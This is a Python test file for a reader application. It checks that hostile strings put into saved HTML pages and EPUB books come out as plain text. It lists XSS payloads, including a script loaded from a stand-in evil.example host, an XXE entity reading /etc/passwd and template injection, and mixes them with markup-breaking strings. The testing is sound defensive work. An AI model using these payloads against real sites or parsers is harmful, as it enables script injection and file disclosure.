"""Row 11: nothing in a text becomes an element, a script or an address that is fetched in pages and books saved."""

from __future__ import annotations

import itertools
import json
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from reader.cli.main import main
from reader.model import remove_unprinted
from tests.copies.test_epub import check_epub
from tests.copies.test_html import checked
from tests.trust.hostile import IS_FULL, find_string_paths, make_copy_payload, replace_at

if TYPE_CHECKING:
    import lxml.etree

BLNS = Path(__file__).parents[3] / "shared" / "hostile" / "blns.json"
SCRIPT = "alert(1)"
VECTORS = [
    f"<script>{SCRIPT}</script>", "<script src=//evil.example/x.js></script>", f"<img src=x onerror={SCRIPT}>",
    "<img src=http://evil.example/1.gif>", f"<svg/onload={SCRIPT}>", f"<svg><script>{SCRIPT}</script></svg>",
    f"<iframe src=javascript:{SCRIPT}>", f"<a href='javascript:{SCRIPT}'>x</a>",
    "<link rel=stylesheet href=//evil.example>", "<style>@import url(//evil.example)</style>",
    f"<body onload={SCRIPT}>", f"<math><mi xlink:href='javascript:{SCRIPT}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
    f"<x onclick={SCRIPT}>", f"<form action=javascript:{SCRIPT}><input type=submit>",
    f"<details open ontoggle={SCRIPT}>", "<!--", "-->", "]]>", "<![CDATA[", "</p></article></main></body></html>",
    "</title>", "</style>", "</script>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", f"javascript:{SCRIPT}", "data:text/html,<b>",
    "&lt;b&gt;", "{{constructor.constructor('alert(1)')()}}", "\\u003cscript\\u003e", "&#x3c;script&#x3e;",
    "%3Cscript%3E",
]  # fmt: skip
BREAKERS = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</script>",
    "--><",
    "]]>",
    '"/>',
    "` ",
    '\\"',
    "&quot;>",
    "</mark>",
]
"""What ends the place where a text stands."""
POLICY = "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"

pytestmark = pytest.mark.usefixtures("library")


def make_hostile_texts() -> list[str]:
    """Half a thousand texts of pages that run programs."""
    return ["".join(parts) for parts in itertools.product(BREAKERS, VECTORS)]


def load_naughty_texts() -> list[str]:
    """Those of the list of naughty strings that are shown as they are."""
    if not BLNS.is_file():
        pytest.skip("the list of naughty strings is not beside this repository")
    return [text for text in json.loads(BLNS.read_text("utf-8")) if text.isprintable() and text.strip()]


def make_payload(texts: list[str]) -> dict[str, Any]:
    """The values of a JSON copy with a text in each block, its caption's picture, a link, a note and a tag."""
    payload = make_copy_payload()
    blocks = payload["dubao:article"]["blocks"]
    paragraph = blocks[2]
    blocks += [paragraph | {"text": f"甲{text}乙"} for text in texts]
    return payload


class Saver:
    """Saves articles as pages and books."""

    def __init__(self, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self._copy, self._book, self._capsys = folder / "copy.json", folder / "book.epub", capsys

    def save_copy(self, payload: dict[str, Any]) -> str:
        """As `save`, of a JSON copy with these values."""
        self._copy.write_text(json.dumps(payload), "utf-8")
        return self.save(self._copy)

    def save(self, source: Path) -> str:
        """The text of the page and of the book, which are checked; empty where the source is refused in a sentence."""
        code = main(["save", str(source), "--format", "html", "-o", "-"])
        out, err = self._capsys.readouterr()
        assert "internal error" not in err
        if code:
            assert err.startswith("dubao: ")
            return ""
        page = checked(out)
        (policy,) = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
        assert policy == POLICY
        check_no_requests(page)
        self._book.unlink(missing_ok=True)
        assert main(["save", str(source), "--format", "epub", "-o", str(self._book)]) == 0
        self._capsys.readouterr()
        book = check_epub(self._book.read_bytes())
        for article in (book.contents, *book.articles):
            check_no_requests(article)
        texts = ["".join(root.itertext()) for root in (*page.xpath("//body"), *book.articles)]
        return "\n".join(texts)


def check_no_requests(root: lxml.etree._Element) -> None:
    """Nothing in a document runs a program or is fetched when it is opened."""
    for element in root.iter():
        for name, value in element.attrib.items():
            plain = str(name).rpartition("}")[2]
            assert not plain.startswith("on"), plain
            assert plain not in ("src", "srcset", "style", "action", "formaction", "background", "poster", "ping"), (
                plain
            )
            is_link = str(element.tag).rpartition("}")[2] == "a"
            assert plain != "href" or is_link or not re.match(r"[a-z+]*:|//", str(value)), value
    for style in root.xpath("//*[local-name()='style']"):
        assert not re.search(r"url\(|@import|<", style.text or "")


@pytest.mark.parametrize("make_texts", [make_hostile_texts, load_naughty_texts])
def test_a_text_is_nothing_but_a_text_in_a_saved_page_and_book(
    make_texts: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    texts = make_texts()
    assert len(texts) >= 400
    shown = Saver(tmp_path, capsys).save_copy(make_payload(texts))
    assert [text for text in texts if shown.count(f"甲{remove_unprinted(text)}乙") < 2] == []


def test_no_string_of_a_copy_becomes_an_element_or_an_attribute(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    payload, texts, saver = make_copy_payload(), itertools.cycle(make_hostile_texts()[7::11]), Saver(tmp_path, capsys)
    paths = sorted(find_string_paths(payload), key=str)
    found = [
        bool(saver.save_copy(replace_at(payload, path, next(texts))))
        for path in paths
        for _ in range(20 if IS_FULL else 2)
    ]
    assert sum(found) > len(found) / 2


def test_the_notes_tags_and_names_of_files_of_a_reader_are_texts_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    saver = Saver(tmp_path, capsys)
    for number, text in enumerate(make_hostile_texts()[3::71]):
        paper = tmp_path / f"{number}{text.replace('/', '∕')[:40]}.txt"
        paper.write_text("渡口的鐘又響了\n\n街坊說鐘聲同從前一樣。\n", "utf-8")
        assert main(["annotate", str(paper), "--quote", "鐘聲", "--note", f"甲{text}乙", "--tag", text]) == 0
        assert saver.save(paper).count(f"甲{text}乙") == 2
